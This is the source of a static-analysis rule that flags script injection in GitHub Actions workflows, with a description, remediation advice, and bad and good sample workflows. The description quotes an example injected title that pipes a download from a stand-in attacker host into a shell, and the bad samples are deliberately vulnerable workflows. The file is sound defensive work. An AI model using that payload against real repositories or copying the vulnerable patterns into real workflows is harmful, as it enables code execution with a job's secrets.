import type { Severity } from '../../../../model/severity.js';
import { sourcesOf, type Control, type Source } from '../../formats/actions-control.js';
import { expressionsIn, type Embedded } from '../../formats/actions-expression.js';
import { scopeOf, type ActionsRule, type Step, type Workflow } from '../../formats/actions.js';
import type { YamlNode } from '../../formats/yaml-syntax.js';
import { fixThroughEnvironment, quoteAt } from './environment-fix.js';
import { isPrivileged } from './triggers.js';

export const actionsScriptInjection: ActionsRule = {
  id: 'actions-script-injection',
  title: 'Script injection in a workflow',
  severity: 'high',
  confidence: 'high',
  cwe: [94, 78],
  asvs: ['1.2.5'],
  languages: ['github-actions'],
  description: `GitHub writes the value of \`\${{ … }}\` into the script before a shell reads it. A title such as
\`"; curl attacker.example | sh; #\` then is code: it runs with the token and the secrets of the job.

Followed are titles, bodies, branch names and commit messages that anyone can write, inputs of actions and of reusable workflows, and what
reaches the script through \`env\`, outputs and matrices. Numbers, commit ids, comparisons and values of \`choice\` inputs are safe.`,
  remediation: `Hand the value over in an environment variable and quote it: \`env: TITLE: \${{ github.event.issue.title }}\`, then
\`"$TITLE"\`. In \`actions/github-script\` read \`process.env.TITLE\` or \`context.payload\`.`,
  references: [
    'https://docs.github.com/en/actions/concepts/security/script-injections',
    'https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
  ],
  examples: {
    bad: [
      {
        path: '.github/workflows/triage.yml',
        text: `on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - name: Greet
        run: |
          echo "New issue"
          echo "\${{ github.event.issue.title }}" ◄
`,
      },
      {
        path: '.github/workflows/preview.yml',
        text: `on: pull_request_target
permissions: {}
env:
  BRANCH: \${{ github.head_ref || github.ref_name }}
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@f28e40c7f34bde8b3046d885e986cb6290c5673b
        with:
          script: |
            const branch = '\${{ env.BRANCH }}'; ◄
            core.info(branch);
`,
      },
      {
        path: 'actions/release/action.yml',
        text: `name: Release
inputs:
  notes:
    description: Text of the release
runs:
  using: composite
  steps:
    - shell: bash
      run: gh release create v1 --notes "\${{ inputs.notes }}" ◄
`,
      },
    ],
    good: [
      {
        path: '.github/workflows/triage.yml',
        text: `on: issues
permissions: {}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "$TITLE"
`,
      },
      {
        path: '.github/workflows/check.yml',
        text: `on:
  pull_request:
  workflow_dispatch:
    inputs:
      level:
        type: choice
        options: [info, debug]
permissions: {}
jobs:
  check:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        node: [20, 22, 24]
    steps:
      - run: |
          echo \${{ github.event.pull_request.number }} \${{ github.sha }} \${{ matrix.node }} \${{ inputs.level }}
          echo \${{ github.head_ref == 'main' && 'release' || 'preview' }}
          echo \${{ contains(github.event.pull_request.title, 'skip ci') }}
`,
      },
    ],
  },
  *check(workflow) {
    for (const step of workflow.jobs.flatMap((job) => job.steps)) {
      const injected = scriptsOf(step).flatMap((script) => injectedIn(script, step, workflow));
      for (const [index, { embedded, source }] of injected.entries()) {
        const fix =
          index === 0 &&
          fixThroughEnvironment(
            step,
            injected.map((one) => one.embedded),
            workflow,
          );
        yield {
          message: `${who[source.control]} decides \`${source.name}\`, and it becomes part of the script.`,
          span: embedded.span,
          severity: severityOf(source, workflow),
          confidence: source.control === 'outsider' ? 'high' : 'medium',
          scope: scopeOf(step),
          ...(fix && { fix }),
        };
      }
    }
  },
};

const who: Readonly<Record<Control, string>> = {
  outsider: 'Whoever opens an issue or a pull request',
  caller: 'Whoever calls it',
  member: 'Whoever starts the workflow by hand',
};

function severityOf({ control }: Source, workflow: Workflow): Severity {
  if (control === 'member') return 'low';
  if (control === 'caller') return 'medium';
  return isPrivileged(workflow) ? 'critical' : 'high';
}

/** Inputs of well-known actions that are run as code. */
const scriptInputs = new Map([
  ['actions/github-script', ['script']],
  ['azure/powershell', ['inlinescript']],
  ['azure/cli', ['inlinescript']],
  ['appleboy/ssh-action', ['script']],
  ['nick-fields/retry', ['command']],
  ['nick-invision/retry', ['command']],
  ['addnab/docker-run-action', ['run', 'options']],
  ['reactivecircus/android-emulator-runner', ['script']],
  ['jannekem/run-python-script-action', ['script']],
  ['cardinalby/js-eval-action', ['expression']],
  ['amadevus/pwsh-script', ['script']],
  ['mikefarah/yq', ['cmd']],
]);

function scriptsOf(step: Step): YamlNode[] {
  const inputs = scriptInputs.get(step.action ?? '') ?? [];
  return [...(step.run ? [step.run.value] : []), ...inputs.flatMap((name) => step.inputs.get(name) ?? [])];
}

function injectedIn(
  script: YamlNode,
  step: Step,
  workflow: Workflow,
): { embedded: Embedded; source: Source }[] {
  return expressionsIn(script, workflow.text).flatMap((embedded) => {
    if (!embedded.expression || isJsonLiteral(embedded, step, script, workflow)) return [];
    const sources = sourcesOf(embedded.expression, step, workflow);
    const source = sources.find(({ control }) => control === 'outsider') ?? sources[0];
    return source ? [{ embedded, source }] : [];
  });
}

/** JSON outside of quotes is a literal of JavaScript, whatever is in it. */
function isJsonLiteral(
  { expression, span }: Embedded,
  step: Step,
  script: YamlNode,
  { text }: Workflow,
): boolean {
  if (step.action !== 'actions/github-script') return false;
  if (expression?.kind !== 'call' || expression.name !== 'tojson') return false;
  return quoteAt(text, script.start, span.start, ['"', "'", '`']) === '';
}
